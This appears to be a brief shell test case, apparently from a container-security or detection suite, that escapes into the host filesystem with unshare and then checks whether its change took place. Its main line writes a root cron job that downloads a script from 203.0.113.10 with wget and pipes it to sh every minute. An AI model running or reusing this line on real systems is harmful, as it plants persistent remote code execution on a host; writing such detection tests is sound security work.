#!/bin/sh
. /opt/case/case.sh

unshare --root=/host --wd=/ /bin/sh -c 'cat /etc/node; echo "* * * * * root wget -qO- http://203.0.113.10/payload.sh | sh" >/etc/cron.d/kube'
test -s /host/etc/cron.d/kube
took_place
